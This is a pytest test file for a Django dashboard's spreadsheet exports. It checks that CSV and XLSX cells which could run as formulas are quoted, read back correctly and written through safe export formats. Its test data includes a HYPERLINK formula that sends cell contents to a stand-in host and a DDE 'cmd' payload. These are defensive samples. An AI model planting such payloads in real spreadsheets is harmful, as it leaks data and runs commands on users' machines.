"""Cells that could run as spreadsheet formulas are neutralised in every CSV and XLSX file."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from import_export.admin import ExportMixin

from measures.spreadsheets import (
    SafeCSV,
    SafeXLSX,
    could_run_as_formula,
    csv_cell,
    csv_text,
    spreadsheet_response,
    without_quote,
    xlsx_bytes,
)

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("text", "formula"),
    [
        (HYPERLINK, True),
        ("=1+1", True),
        ("+44 1522 552222", True),
        ("-2+3", True),
        ("@SUM(A1:A9)", True),
        ("\t=1+1", True),
        ("\r=1+1", True),
        ("\tindented", True),
        ("  =1+1", True),
        ("\n=1+1", True),
        ("-3", False),
        ("-3.5", False),
        ("+4", False),
        ("-.5", False),
        ("48.7", False),
        ("-", False),
        ("Looked after children", False),
        ("A = B", False),
        ("email@example.gov.uk", False),
        ("", False),
    ],
)
def test_text_that_a_spreadsheet_could_run_is_recognised(text: str, formula: bool) -> None:
    assert could_run_as_formula(text) is formula


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("@cmd", "'@cmd"),
        ("\r=1+1", "'\n=1+1"),
        ("Two\r\nlines", "Two\nlines"),
        ("-3.5", "-3.5"),
        ("- fewer children than last year", "'- fewer children than last year"),
        ("As at 30 June 2017", "As at 30 June 2017"),
        (None, ""),
        (Decimal("-2.0"), "-2.0"),
    ],
)
def test_a_csv_cell_gets_a_quote_only_when_it_could_run(value: object, written: str) -> None:
    assert csv_cell(value) == written


@pytest.mark.parametrize(
    ("text", "read"),
    [
        ("'" + HYPERLINK, HYPERLINK),
        ("'-2+3", "-2+3"),
        ("'quoted on purpose'", "'quoted on purpose'"),
        ("'-3", "'-3"),
        ("plain", "plain"),
    ],
)
def test_the_quote_an_export_added_is_taken_off_when_read_back(text: str, read: str) -> None:
    assert without_quote(text) == read


HOSTILE = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


def test_a_csv_file_reads_back_with_every_hostile_cell_quoted() -> None:
    text = csv_text(["title", "value"], [[h, "-3.5"] for h in HOSTILE])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["title", "value"]
    # A carriage return is written as a line break, so the row is never split.
    assert [row[0] for row in rows[1:]] == ["'" + h.replace("\r", "\n") for h in HOSTILE]
    assert all(row[1] == "-3.5" for row in rows[1:])


def test_an_xlsx_file_has_no_formula_and_shows_each_text_as_written() -> None:
    data = xlsx_bytes(["title", "value", "count"], [[h, "-3.5", "12"] for h in HOSTILE], title="T")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in texts] == HOSTILE
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts)
    # Numbers stay numbers, negative ones too, showing their decimal places.
    values = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert {(cell.value, cell.data_type, cell.number_format) for cell in values} == {
        (-3.5, "n", "0.0")
    }
    assert sheet["C2"].value == 12


def test_an_xlsx_cell_with_a_control_character_is_written_not_refused() -> None:
    data = xlsx_bytes(["title"], [["Bell\x07 character"]], title="T")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "Bell\N{REPLACEMENT CHARACTER} character"


def test_every_admin_export_writes_through_the_safe_formats() -> None:
    exporting = [
        model_admin
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, ExportMixin)
    ]
    assert exporting, "the figures admin exports"
    for model_admin in exporting:
        formats = model_admin.get_export_formats()
        assert formats and all(issubclass(f, SafeCSV | SafeXLSX) for f in formats), model_admin


@pytest.mark.parametrize(
    ("fmt", "content", "content_type"),
    [
        ("csv", "measure\nLAC-RATE\n", "text/csv; charset=utf-8"),
        (
            "xlsx",
            b"PK\x03\x04",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
    ],
)
def test_a_spreadsheet_is_downloaded_as_a_named_file_of_its_type(
    fmt: str, content: str | bytes, content_type: str
) -> None:
    response = spreadsheet_response(content, fmt=fmt, name="dashboard-2017-18-Q1")
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="dashboard-2017-18-Q1.{fmt}"'
    expected = content.encode() if isinstance(content, str) else content
    assert response.content == expected
